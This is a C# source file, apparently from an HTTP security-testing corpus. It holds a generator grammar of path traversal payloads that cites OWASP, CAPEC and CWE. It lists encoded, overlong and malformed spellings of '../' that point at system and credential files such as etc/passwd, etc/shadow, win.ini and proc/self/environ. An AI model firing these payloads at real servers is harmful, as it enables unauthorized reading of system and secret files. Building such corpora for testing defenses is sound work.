namespace Weir.Http.Corpus.Attacks;

/// <summary>Spellings of ../: encoded, overlong, damaged, mixed.</summary>
/// <remarks>OWASP WSTG-ATHZ-01, CAPEC-64, CAPEC-78 to 80, CAPEC-267, CWE-22, CWE-173.</remarks>
internal static class TraversalEncodings
{
    public const string Text = """"
        ¶ ---- encoded ../ ----
        §encodedup
        9× «lead?40»«$u:encup»«again*0-9»«encrel»«cut?25»
        3× «same»
        2× «plainup→url»
        «plainup→urltwice»
        «plainup→urlall»
        «plainup→urlsome»
        §again
        «$u»
        §same
        «sameof_a»«unixrel»
        «sameof_b»«unixrel»«cut?»
        «lead»«sameof_a»«unixrel»
        «lead»«sameof_b»«winrel»
        «sameof_a»«unixrel→url»
        «sameof_b»«unixrel→url»
        «sameof_c»«winrel→backslash»
        §sameof_a
        «updots_a*2-9»
        §sameof_b
        «updots_b*2-9»
        §sameof_c
        «updots_c*2-9»
        §updots_a
        ..%2f
        §updots_b
        %2e%2e/
        §updots_c
        ..%5c
        ¶ Any spelling of the dots beside any spelling of the slash, and the same slash within the file: overlong, invalid, split and doubled escapes.
        §damaged
        6× «lead?30»«$d:dotpair»«$s:slashenc»«dsagain*0-8»«dstarget»«cut?10»
        2× «lead?30»«$d:dotpair»«$s:slashenc»«dsagain*1-8»«unixrel»
        «lead?30»«$d:dotpair»«$s:slashenc»«dsagain*1-7»«winrel→backslash»
        «$s:slashenc»«$d:dotpair»«$s»«dsagain*1-7»«dstarget»
        §dsagain
        «$d»«$s»
        §dstarget
        3× etc«$s»passwd
        2× etc«$s»«issue¦hosts¦shadow¦group¦hostname¦motd»
        3× boot.ini
        2× windows«$s»win.ini
        2× windows«$s»system32«$s»drivers«$s»etc«$s»hosts
        winnt«$s»«win.ini¦system32«$s»cmd.exe»
        windows«$s»system.ini
        proc«$s»self«$s»environ
        var«$s»log«$s»«apache2«$s»access.log¦httpd«$s»error.log¦syslog»
        «word».«ext»
        «word»«$s»«word».«ext»
        «{FILE}¦{file}»
        §dotpair
        4× «$o:dotenc»«$o»
        3× ..
        2× «oddpair»
        «dotenc»«dotenc»
        §oddpair
        «.?¦?.¦??¦...¦....¦.%00.¦.%00¦%00.¦..%00¦..%01¦..%20¦. .¦.. ¦.␀.¦.%20.¦.%0a.¦.+.¦._.¦0x2e0x2e¦.0x2e¦0x2e.¦2e2e¦..;¦.\.¦.%5c.¦.%e2%80%ae.»
        §dotenc
        4× %2e
        3× %252e
        3× %c0%ae
        2× %c0%2e
        2× %c0%«hexdigit»e
        2× %c0.
        2× %%32%65
        2× %uff0e
        2× %u002e
        %e0%80%ae
        %e0%40%ae
        %f0%80%80%ae
        %f8%80%80%80%ae
        %fc%80%80%80%80%ae
        %25c0%25ae
        %%c0%6e
        %c0%6e
        %c0%5e
        %2%e
        %32%65
        %2E
        %u2024
        %ef%bc%8e
        %«hexdigit»«letter»%«hexdigit»e
        §slashenc
        4× %2f
        4× %5c
        3× %252f
        3× %255c
        3× %c0%af
        2× %c1%9c
        2× 0x2f
        2× 0x5c
        2× %%32%66
        2× %%35%63
        2× %u2215
        2× %u2216
        2× %25c0%25af
        2× %25c1%259c
        2× %c0%2f
        2× %c0%5c
        2× %c0%9v
        2× %c0%qf
        2× %c1%8s
        2× %c1%pc
        2× %c1%1c
        2× %c1%af
        2× %bg%qf
        2× %2%f
        2× %5%c
        2× %uEFC8
        2× %uF025
        %e0%80%af
        %f0%80%80%af
        %f8%80%80%80%af
        %fc%80%80%80%80%af
        %c0%«hexdigit»«letter»
        %c1%«hexdigit»«letter»
        %«letter»«letter»%«letter»f
        %2F%2f
        2f
        5c
        %32%66
        %ef%bc%8f
        %e2%88%95
        /
        \
        //
        \
        /\
        \/
        ／
        ∕
        o
        §encup
        5× ..%2f
        4× %2e%2e%2f
        3× %2e%2e/
        3× ..%252f
        2× %252e%252e%252f
        2× ..%5c
        2× %2e%2e%5c
        2× ..%255c
        2× %252e%252e%255c
        2× ..%c0%af
        2× %c0%ae%c0%ae/
        «overdots»«overslash»
        .«¦.»%2f
        «..¦%2e%2e¦%2E%2E»«%2f¦%2F¦%5c¦%5C»
        %25«2e%252e%252f¦32%65%25%32%65%25%32%66»
        %%32%65%%32%65%%32%66
        %%32%65%%32%65/
        ..%%32%66
        ..%%35%63
        ..%%35c
        ..%25%35%63
        ..%u2215
        ..%u2216
        %u002e%u002e%u002f
        %uff0e%uff0e%u2215
        %uff0e%uff0e/
        ..%u002f
        ..0x2f
        0x2e0x2e0x2f
        0x2e0x2e/
        0x2e0x2e\
        ..%e0%80%af
        ..%f0%80%80%af
        ..%bg%qf
        ..%c1%9c
        ..%c1%pc
        ..%c0%9v
        ..%c0%qf
        ..%c1%8s
        ..%c1%1c
        ..%c1%af
        ..%c0%2f
        ..%c0%5c
        %c0%2e%c0%2e%c0%2f
        %uF025
        ..%fc%80%80%80%80%af
        ..%f8%80%80%80%af
        ..%00/
        ..%00%2f
        ..%0d/
        ..%0a/
        ..%09/
        ..%ff/
        ..%01/
        ..%20/
        %20../
        %2e%2e;/
        ..%3b/
        %2e./
        .%2e/
        .%252e/
        %2e%2e%u2216
        ..&#47;
        &#46;&#46;&#47;
        \u002e\u002e\u002f
        \x2e\x2e\x2f
        \x2e\x2e/
        \56\56\57
        ..%ef%bc%8f
        %ef%bc%8e%ef%bc%8e%ef%bc%8f
        ..%c0%af..%c0%af
        %5c..
        %2f..
        /%2e%2e
        /%252e%252e
        %2f%2e%2e
        ....%2f%2f
        %2e%2e%2e%2e%2f%2f
        %2e%2e%2e%2e//
        ....%5c%2f
        %c0%ae./
        .%c0%ae/
        %25c0%25ae%25c0%25ae%25c0%25af
        ..%25c0%25af
        ..%25c1%259c
        §overdots
        %c0%ae%c0%ae
        %e0%80%ae%e0%80%ae
        %f0%80%80%ae%f0%80%80%ae
        %fc%80%80%80%80%ae%fc%80%80%80%80%ae
        %uff0e%uff0e
        %c0%«5e¦ee¦fe¦2e»%c0%«5e¦ee¦fe¦2e»
        %c0.%c0.
        ..
        .%c0%ae
        §overslash
        %c0%af
        %e0%80%af
        %f0%80%80%af
        %c1%9c
        %c0%«2f¦5c¦6f¦9v¦qf»
        %e0%81%9c
        %f0%80%81%9c
        %u2215
        %fc%80%80%80%80%af
        /
        \
        §encrel
        6× «unixrel»
        3× «unixrel→url»
        2× «unixrel→urltwice»
        «winrel→url»
        «winrel»
        etc%c0%afpasswd
        etc%252fpasswd
        etc0x2fpasswd
        §mixedup
        3× «lead?40»«upany*2-8»«unixrel»«cut?25»
        2× «lead?40»«upany*2-8»«unixrel→url»
        «lead»«word»/«upany*2-6»«unixrel»
        «word»/«up*1-4»«word»/«up*2-8»«unixrel»
        /«word»/«up»«word»/«up»«word»/«up*2-7»«unixrel»
        «up*1-3»«rand»/«up*3-9»«unixrel»
        /.../.../.../«unixrel»
        «letter*20-60»/«up*2-9»«unixrel»
        §upany
        4× ../
        2× ..%2f
        2× «encup»
        «trick»
        ..\
        """";
}
